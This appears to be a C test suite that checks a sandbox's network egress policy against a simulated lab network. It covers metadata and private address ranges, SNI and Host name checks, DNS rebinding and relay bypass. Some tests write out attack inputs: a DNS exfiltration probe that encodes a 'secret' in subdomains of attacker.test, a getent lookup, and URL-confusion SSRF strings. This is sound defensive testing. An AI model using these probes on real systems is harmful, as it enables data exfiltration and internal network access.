/* SPDX-License-Identifier: Apache-2.0 */
/* S-29 to S-33: what a policy lets through, and that nothing else gets there. Against the internet
 * of tests/support/netlab. */
#include "attack.h"
#include <cay/policy.h>
#include <signal.h>

/* What the lab has seen since the case began: "flows" or "queries". */
static size_t old[2];

static void lab_file(const char *name, char *buf, size_t cap)
{
    char path[400];
    size_t skip_ = old[*name == 'q'];
    snprintf(path, sizeof path, "%s/%s", getenv("NETLAB"), name);
    FILE *f = fopen(path, "re");
    size_t n = f && fseek(f, (long)skip_, SEEK_SET) == 0 ? fread(buf, 1, cap - 1, f) : 0;
    buf[n] = 0;
    if (f)
        fclose(f);
}

static void lab_begin(void)
{
    char path[400];
    struct stat st;
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "%s/%s", getenv("NETLAB"), i ? "queries" : "flows");
        old[i] = stat(path, &st) == 0 ? (size_t)st.st_size : 0;
    }
}

static cay_sandbox *box_with(const char *policy)
{
    cay_create spec = { .size = sizeof spec, .net.policy = policy };
    if (!getenv("NETLAB")) {
        skip("it needs an internet of its own: tests/attack/run-net, or the test attack-net-MODE");
        return NULL;
    }
    lab_begin();
    cay_sandbox *sb = box_new(&spec);
    if (strcmp(box_layer(sb, "egress-policy"), "on")) {
        skip("this kernel has no egress-policy");
        box_remove(sb);
        return NULL;
    }
    return sb;
}

static const char *wanted; /* a reason */
static int is_wanted(const cay_net_record *r, void *arg)
{
    (void)arg;
    return !strcmp(r->verdict, "deny") && !strcmp(r->reason, wanted);
}

static void recorded(cay_sandbox *sb, const char *reason)
{
    wanted = reason;
    for (int i = 0; i < 100; i++) {
        if (cay_net_log(sb, is_wanted, NULL, NULL) == 1)
            return;
        nap(20);
    }
    breach("no record tells of %s", reason);
}

#define YES(...) inside(sb, NULL, "netask", "yes", __VA_ARGS__, NULL)
#define NO(...)  inside(sb, NULL, "netask", "no", __VA_ARGS__, NULL)

static void s29_ranges(void)
{
    static const char *const addrs[] = { "169.254.169.254", "169.254.170.2",  "100.100.100.200",
                                         "168.63.129.16",   "192.0.0.192",    "10.0.0.5",
                                         "192.168.1.1",     "172.16.0.1",     "100.64.0.1",
                                         "198.18.0.1",      "0.0.0.0",        "fd00::5",
                                         "fd00:ec2::254",   "64:ff9b::a00:5", "::ffff:10.0.0.5",
                                         "2002:a00:5::1" };
    static const char *const names[] = { "inside.test", "meta.test", "lo.test", "mapped.test" };
    char seen[8192];
    cay_sandbox *sb = box_with("cay-net 1\nmode all\n");
    if (!sb)
        return;
    YES("http", "good.test", "80");
    YES("http", "93.184.216.35", "80");
    for (size_t i = 0; i < sizeof addrs / sizeof *addrs; i++)
        NO("http", addrs[i], "80");
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        NO("http", names[i], "80");
        NO("tcp", names[i], "8080");
    }
    YES("http", "many.test", "80"); /* one address of it may be had */
    recorded(sb, "blocked_range");
    lab_file("flows", seen, sizeof seen);
    for (size_t i = 0; i < sizeof addrs / sizeof *addrs; i++)
        CHECK(!strstr(seen, addrs[i]), "%s was reached", addrs[i]);
    box_remove(sb);
}

static void s30_names(void)
{
    cay_sandbox *sb = box_with("cay-net 1\nmode rules\nrule good.test\n");
    if (!sb)
        return;
    YES("http", "good.test", "80");
    YES("http", "GOOD.test.", "80", "good.test");
    YES("http", "good.test", "80", "good.test", "http://good.test/x");
    YES("tls", "good.test", "443");
    NO("http", "other.test", "80");
    NO("http", "sub.good.test", "80");
    NO("tcp", "good.test", "8080");
    NO("tls", "good.test", "443", "other.test");
    NO("tls", "good.test", "443", "");
    NO("tcp", "good.test", "443");
    NO("http", "good.test", "80", "other.test");
    NO("http", "good.test", "80", "good.test", "http://other.test/");
    NO("http", "good.test", "80", "good.test", "http://good.test@other.test/");
    NO("twice", "good.test", "80", "other.test");
    NO("http", "93.184.216.34", "80", "good.test");
    NO("http", "93.184.216.35", "80");
    NO("tls", "93.184.216.34", "443", "good.test");
    NO("http", "198.18.1.200", "80", "good.test");
    static const char *const reasons[] = {
        "default_deny",   "tls_name_mismatch",  "tls_no_name",
        "tls_unreadable", "http_host_mismatch", "unknown_address"
    };
    for (size_t i = 0; i < sizeof reasons / sizeof *reasons; i++)
        recorded(sb, reasons[i]);
    char seen[8192];
    lab_file("flows", seen, sizeof seen);
    CHECK(!strstr(seen, "93.184.216.35"), "other.test was reached");
    box_remove(sb);
}

static void s31_leak(void)
{
    char seen[8192];
    cay_sandbox *sb = box_with("cay-net 1\nmode rules\nrule good.test\nrule *.wild.test\n");
    if (!sb)
        return;
    inside(sb, NULL, "netleak", "c2VjcmV0.attacker.test", NULL);
    inside(sb, NULL, "netleak", "c2VjcmV0.good.test", NULL);
    command(sb, NULL, "getent hosts c2VjcmV0.wild.test; getent ahosts www.attacker.test", NULL, 0);
    lab_file("queries", seen, sizeof seen);
    CHECK(!strstr(seen, "c2v") && !strstr(seen, "attacker"), "a question left: %.200s", seen);
    YES("http", "good.test", "80"); /* the judge is judged: what may leave is seen */
    lab_file("queries", seen, sizeof seen);
    CHECK(strstr(seen, "A good.test"), "the lab saw no question at all");
    box_remove(sb);
}

static void s32_rebinding(void)
{
    cay_sandbox *sb = box_with("cay-net 1\nmode rules\nrule flip.test\nrule inside.test\nrule "
                               "lo.test\nrule mapped.test\nrule meta.test\n");
    if (!sb)
        return;
    YES("http", "flip.test", "80");
    nap(5200); /* its time to live */
    NO("http", "flip.test", "80");
    NO("http", "lo.test", "80");
    NO("http", "mapped.test", "80");
    NO("http", "meta.test", "80");
    NO("http", "inside.test", "80");
    recorded(sb, "blocked_range");
    box_remove(sb);
}

static void s33_around(void)
{
    cay_sandbox *sb = box_with("cay-net 1\nmode rules\nrule good.test\nrule 93.184.216.36/32:80\n");
    if (!sb)
        return;
    cay_err err = CAY_ERR_INIT;
    inside(sb, NULL, "netround", NULL);
    cay_spawn base = { .size = sizeof base };
    static const struct {
        const char *host, *port, *said, *want;
    } ways[] = { { "good.test", "80", "good.test", "yes" },
                 { "good.test", "80", "other.test", "no" },
                 { "93.184.216.35", "80", "other.test", "no" } };
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        cay_proc *relay = inside_start(sb, &base, "netrelay", ways[i].host, ways[i].port, NULL);
        inside(sb, NULL, "netask", ways[i].want, "http", "127.0.0.1", "3128", ways[i].said, NULL);
        cay_proc_signal(relay, NULL, SIGKILL, CAY_SCOPE_TREE, &err);
        cay_proc_unref(relay);
        nap(50);
    }
    YES("http", "93.184.216.36", "80");
    NO("http", "93.184.216.37", "80");
    box_remove(sb);
}

const attack egress_attacks[] = {
    { "S-29", "ranges that are always blocked stay so under policy all", ALL, "net-ranges", NULL,
      s29_ranges },
    { "S-30", "only the name that is allowed, whatever the program says", ALL, "net-sni net-host",
      NULL, s30_names },
    { "S-31", "no question for a name leaves", ALL, "net-lookup", NULL, s31_leak },
    { "S-32", "a name that turns inward is caught when it is dialled", ALL, "net-ranges", NULL,
      s32_rebinding },
    { "S-33", "no proxy to be passed by: datagrams, raw sockets and own relays", ALL, NULL,
      "the walls are those of S-28 (netfilter), S-25 (the filter) and S-30", s33_around },
    { 0 },
};
